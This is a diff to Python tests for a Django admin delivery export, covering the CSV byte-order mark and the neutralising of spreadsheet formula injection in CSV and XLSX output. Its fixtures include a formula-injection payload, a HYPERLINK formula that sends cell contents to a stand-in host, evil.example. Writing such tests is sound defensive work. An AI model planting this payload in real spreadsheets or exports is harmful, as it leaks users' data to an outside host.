@@ -396,7 +396,9 @@ def test_deliveries_export_as_csv_with_the_lists_filters_applied():
     response = client.post("/admin/dispatch/delivery/export/?status__exact=cancelled", form)
 
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    body = response.content.decode()
+    # with a byte-order mark: Excel read UTF-8 without one as the ANSI code page (names garbled)
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    body = response.content.decode("utf-8-sig")
     assert body.splitlines()[0].strip() == "seller_order_id,status"
     assert "ORD-KEPT,cancelled" in body and "ORD-FILTERED-OUT" not in body
 
@@ -435,14 +437,20 @@ def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
     DeliveryFactory(seller_order_id="ORD-F5", store_name="-1_000")
     form = {"resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_store_name": "on"}
 
-    csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode()
-    sheet = load_workbook(BytesIO(client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"}).content)).active
+    DeliveryFactory(seller_order_id="ORD-F6", store_name="Bell\x07 Stores")  # (XML holds no control characters)
+    csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode("utf-8-sig")
+    xlsx = client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"})
+    sheet = load_workbook(BytesIO(xlsx.content)).active
 
     assert "'=HYPERLINK" in csv and "'+1-555 Corner Shop" in csv and "'-ORD-F3,'@SUM(A1:A9)" in csv
     assert "\n-3.50,-12" in csv and "ORD-F4,'-inf" in csv and "ORD-F5,'-1_000" in csv
-    cells = {cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row}
-    assert {'\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1-555 Corner Shop", "'@SUM(A1:A9)", "'-ORD-F3"} <= cells
-    assert "ORD-F1" in cells  # (plain text untouched)
+    # XLSX: text cells, as they are (escaped with `'`, a spreadsheet showed the apostrophe)
+    assert xlsx.status_code == 200
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
+    texts = {'=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-555 Corner Shop", "@SUM(A1:A9)", "-ORD-F3", "ORD-F1",
+             "Bell\ufffd Stores"}
+    assert texts <= cells.keys() and {cells[text] for text in texts} == {"s"}
+    assert not any(str(value).startswith("'") for value in cells)
 
 
 def test_driver_performance_and_costs_export_as_xlsx():
